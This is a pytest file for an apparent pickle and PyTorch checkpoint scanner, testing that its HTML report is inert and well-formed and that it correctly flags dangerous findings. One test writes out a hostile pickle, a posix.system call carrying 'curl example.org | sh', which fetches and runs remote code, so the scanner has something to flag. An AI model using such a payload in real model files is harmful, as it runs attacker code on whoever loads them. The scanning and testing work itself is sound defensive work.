"""The HTML page: complete, without anything that runs or loads, and with everything that a reviewer looks for."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from safeload.api import read
from safeload.findings import GlobalUse
from safeload.policy.resolve import load_policy
from safeload.report.changes import change_of
from safeload.report.page import bytemap, flow
from safeload.report.page.style import CSS, csp
from tests.cli.inputs import BROKEN, EVIL, OURS, PLAIN, calling, run, state_dict, torch_zip
from tests.containers.zipbuild import build
from tests.report.mixed import hostile_file, plain_folder, text_of
from tests.report.test_extents import parts

HEAD = 'schema = 1\nname = "mine"\nversion = "1"\nsummary = "s"\nowner = "o"\nmode = "enforce"\ndefault = "deny"\n'
VOID = {"meta", "br"}  # elements of HTML without an end


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SAFELOAD_POLICY", raising=False)
    return tmp_path


def page_of(*arguments: str) -> str:
    return run("scan", "-f", "html", "--no-second-opinion", *arguments).out


class Structure(HTMLParser):
    """Elements that open and close as they should, and everything that they hold."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self.ids += [value or "" for name, value in attrs if name == "id"]
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)  # only in SVG

    def handle_endtag(self, tag: str) -> None:
        assert tag not in VOID
        assert self.open.pop() == tag


def structure_of(page: str) -> Structure:
    found = Structure()
    found.feed(page)
    found.close()
    assert found.open == []
    return found


# ---- what a page may hold -------------------------------------------------------------------------------------------------------------------


def test_the_policy_of_the_page_lets_in_its_own_style_and_nothing_else(here: Path) -> None:
    (here / "evil.pt").write_bytes(EVIL)
    page = page_of("evil.pt")
    (style,) = re.findall(r"<style>(.*?)</style>", page, flags=re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'" in page
    assert style == CSS
    assert csp() in page
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert "url(" not in CSS
    assert "@import" not in CSS


def test_pages_are_well_formed_and_hold_nothing_that_runs_or_loads(here: Path) -> None:
    plain_folder(here)
    (here / "hostile.pkl").write_bytes(hostile_file())
    (here / "gap.pt").write_bytes(build(parts(), before_directory=b"hidden" * 20))
    names = sorted(path.name for path in here.iterdir())
    for arguments in (["."], *([name] for name in names), ["-p", "inspect", "hostile.pkl"], ["-p", "inspect", "."], []):
        found = structure_of(page_of(*arguments))
        assert set(found.tags) <= {
            "html", "head", "meta", "title", "style", "body", "main", "header", "section", "nav", "article", "footer", "div", "span", "p", "h1", "h2", "h3",
            "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "details", "summary", "strong", "br", "a", "ul", "li",
            "svg", "rect", "path", "text",
        }  # fmt: skip
        names_of_attributes = {name for _, name, _ in found.attributes}
        assert names_of_attributes <= {
            "lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "viewbox", "preserveaspectratio", "role", "aria-label", "aria-hidden",
            "x", "y", "width", "height", "rx", "d", "text-anchor", "open", "data-head",
        }  # fmt: skip
        links = [value for tag, name, value in found.attributes if name == "href"]
        assert [link for link in links if not re.fullmatch(r"#file-\d+", link)] == []
        assert {link.removeprefix("#") for link in links} <= set(found.ids)
        assert len(found.ids) == len(set(found.ids))


# ---- what it shows --------------------------------------------------------------------------------------------------------------------------


def test_the_banner_says_verdict_file_policy_and_digests(here: Path) -> None:
    (here / "evil.pt").write_bytes(EVIL)
    page = text_of(page_of("evil.pt"))
    document = json.loads(run("scan", "-f", "json", "evil.pt").out)
    for said in ("Rejected", "1 error", "evil.pt", document["results"][0]["sha256"], document["policy"]["sha256"], "28 of 28 bytes accounted for", "enforce"):
        assert said in page
    assert "pickle" in page


def test_a_finding_comes_with_its_listing_and_the_arrow(here: Path) -> None:
    (here / "evil.pt").write_bytes(torch_zip("PROTO 2\nGLOBAL posix system\nBINUNICODE 'curl example.org | sh'\nTUPLE1\nREDUCE\nSTOP"))
    page = page_of("evil.pt")
    (row,) = re.findall(r'<tr class="here">(.*?)</tr>', page)
    assert text_of(row) == "0x002bREDUCEposix.system('curl example.org | sh')← would start a process here"
    data = (here / "evil.pt").read_bytes()
    offset = re.search(r"which is <span class=\"mono\">(0x[0-9a-f]+)</span> in the file", page)
    assert offset is not None
    assert data[int(offset[1], 16)] == ord("R")


def test_the_stanza_in_the_page_changes_the_verdict(here: Path) -> None:
    import html

    (here / "ours.pt").write_bytes(OURS)
    stanzas = [html.unescape(each) for each in re.findall(r"<pre>(\[\[opaque\]\].*?)</pre>", page_of("ours.pt"), flags=re.DOTALL)]
    assert len(stanzas) == 2
    toml = HEAD + 'extends = ["checkpoint"]\n\n' + "\n\n".join(stanzas).replace('reason     = ""', 'reason     = "ours"')
    (here / "mine.toml").write_text(toml)
    assert run("scan", "-p", "mine.toml", "ours.pt").code == 0


@pytest.mark.parametrize(
    ("data", "limits", "said", "table"),
    [
        (EVIL, None, "a denial is inherited", None),
        (calling("acme.Config"), None, "An entry that keeps it as an inert record:", "opaque"),
        (calling("acme.`Config"), None, "not spelled as a Python name", None),
        (BROKEN, None, "never accepted", None),
        (PLAIN, {"opcodes": 2}, "A policy can raise the limit until a day:", "raise"),
        (calling(*["collections.OrderedDict"]).replace(b")R", b"K\x01\x85R"), None, "the name is permitted", None),
    ],
)
def test_what_would_change_a_finding(tmp_path: Path, data: bytes, limits: dict[str, int] | None, said: str, table: str | None) -> None:
    policy = load_policy("checkpoint")
    report = read(data, limits=limits).report
    change = change_of(report.errors[-1], report, policy)
    assert said in change.text
    assert (change.toml[:1] == (f"[[{table}]]",)) == (table is not None)
    if table == "raise":
        toml = "\n".join(change.toml).replace('""', '"somebody"').replace("YYYY-MM-DD", "2030-01-01")
        assert toml.splitlines()[1] == 'limit   = "opcodes"'
        file = tmp_path / "mine.toml"
        file.write_text(f'{HEAD}extends = ["checkpoint"]\n\n{toml}\n'.replace("to      = 4", "to      = 60000000"))
        assert load_policy(str(file)).raises[0].limit == "opcodes"


def test_tensors_are_listed_by_name_and_by_dtype(here: Path) -> None:
    (here / "model.pt").write_bytes(state_dict())
    page = text_of(page_of("model.pt"))
    for said in ("fc.weight", "[4, 2]", "2 views", "3 tensors of 64 bytes, in 2 storages of 64 bytes"):
        assert said in page


def test_the_second_opinion_stands_beside_ours_and_disagreement_is_said(here: Path) -> None:
    pytest.importorskip("fickling", reason="fickling is not installed")
    (here / "evil.pt").write_bytes(EVIL)
    (here / "model.pt").write_bytes(state_dict())
    evil = text_of(run("scan", "-f", "html", "evil.pt").out)
    assert "fickling, in a process of its own" in evil
    assert "malicious" in evil
    assert "They disagree" not in evil
    good = text_of(run("scan", "-f", "html", "model.pt").out)
    assert "They disagree" in good
    assert "A second opinion" not in text_of(run("scan", "-f", "html", "evil.pt", "model.pt").out)
    assert "A second opinion" in text_of(run("scan", "-f", "html", "--second-opinion", "evil.pt", "model.pt").out)
    assert "A second opinion" not in text_of(run("scan", "-f", "html", "--no-second-opinion", "evil.pt").out)


def test_of_several_files_those_that_are_not_accepted_have_a_section(here: Path) -> None:
    verdicts = plain_folder(here)
    page = page_of(".")
    sections = re.findall(r'<section class="card file (\w+)" id="file-\d+">', page)
    assert sorted(sections) == sorted(verdict for verdict in verdicts.values() if verdict != "accepted")
    assert page.count('<a href="#file-') == len(sections)
    accepted = page[page.index("<h2>Accepted: 2 files</h2>") :]
    assert "plain.pkl" in accepted
    assert "state_dict.pt" in accepted


def test_a_page_on_many_files_is_bounded(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from safeload.report.page import writer

    for name, value in (("MAX_SECTIONS", 2), ("MAX_INDEX", 4), ("MAX_ACCEPTED", 1)):
        monkeypatch.setattr(writer, name, value)
    plain_folder(here)
    page = page_of(".")
    assert page.count("id=\"file-") == 2
    assert "Not accepted: 9 files" in page
    assert "and 5 more files that are not accepted" in page
    assert "The first 2 have a section below" in page
    assert "Accepted: 2 files" in page
    assert "<p class=\"soft\">and 1 more file</p>" in page


# ---- the pictures -----------------------------------------------------------------------------------------------------------------------------


def test_a_gap_and_an_overlap_are_said_in_words_and_drawn() -> None:
    from safeload.report.extents import map_of

    found = map_of(read(build(parts(), before_directory=b"hidden payload " * 4)))
    section = bytemap.section(found)
    (gap,) = [extent for extent in found.extents if extent.owner == "gap"]
    assert f"from {gap.start:#x} to {gap.end:#x}" in text_of(section)
    assert "Belongs to nobody" in section
    assert 'class="f-gap"' in section


def test_the_bar_is_to_scale_and_complete() -> None:
    from safeload.report.extents import map_of

    section = bytemap.section(map_of(read(state_dict())))
    bar = section[: section.index("</svg>")]
    rects = [tuple(map(float, each)) for each in re.findall(r'<rect class="f-\w+" x="([\d.]+)" y="0" width="([\d.]+)"', bar)]
    assert rects[0][0] == 0
    assert rects[-1][0] + rects[-1][1] == pytest.approx(1_000, abs=0.05)
    for (x, width), (following, _) in zip(rects, rects[1:], strict=False):
        assert x + width == pytest.approx(following, abs=0.5)


def test_a_large_file_keeps_its_small_pickle_in_sight() -> None:
    from safeload.report.extents import ByteMap, Extent

    found = ByteMap(
        total=10**10,
        extents=(
            Extent(start=0, end=2_000, owner="pickle", name="data.pkl"),
            Extent(start=2_000, end=10**10 - 5, owner="storage", name="data/0"),
            Extent(start=10**10 - 5, end=10**10, owner="gap", name="belongs to nobody"),
        ),
    )
    section = bytemap.section(found)
    assert re.search(r'class="f-pickle" x="0.00" y="0" width="0.40"', section)
    assert re.search(r'class="f-gap" x="997.00" y="0" width="3.00"', section)
    assert "&lt; 0.1 %" in section or "< 0.1 %" in section


def uses(count: int, decision: str) -> list[GlobalUse]:
    return [
        GlobalUse(
            global_name=f"acme.{decision}{number}", uses=("call", "reference")[: 1 + number % 2], decision=decision,  # type: ignore[arg-type]
            entry=None if decision == "denied" else decision, policy=None, capability="unknown", count=1 + number, places=(),
        )
        for number in range(count)
    ]  # fmt: skip


@pytest.mark.parametrize("counts", [(0, 0, 1), (1, 0, 0), (1, 3, 9), (30, 0, 0), (1, 0, 5_000), (40, 40, 40)])
def test_the_flow_shows_every_name_and_loses_none(counts: tuple[int, int, int]) -> None:
    names = [use for count, decision in zip(counts, ("denied", "opaque", "allowed"), strict=True) for use in uses(count, decision)]
    section = flow.section(names)
    shown = len(re.findall(r'<text class="name" x="254"[^>]*>acme\.', section))
    folded = sum(int(each.replace(",", "")) for each in re.findall(r">and ([\d,]+) more", section))
    assert shown + folded == len(names)
    for kind, count in zip(("denied", "opaque", "allowed"), counts, strict=True):
        assert (f'class="l-{kind}"' in section) == (count > 0)
    if counts[0]:
        assert section.index("acme.denied") < section.index("acme.allowed") if counts[2] and "acme.allowed" in section else True


def test_bands_fill_their_bars_exactly() -> None:
    paths = flow._paths(uses(5, "denied") + uses(30, "allowed"))
    columns = [flow._nodes(paths, column) for column in range(4)]
    for number in range(3):
        flow._links(paths, columns, number)
    for column, nodes in enumerate(columns):
        for node in nodes.values():
            if column < 3:
                assert node.out == pytest.approx(node.height) or node.height == 4.0
            if column:
                assert node.into == pytest.approx(node.height) or node.height == 4.0
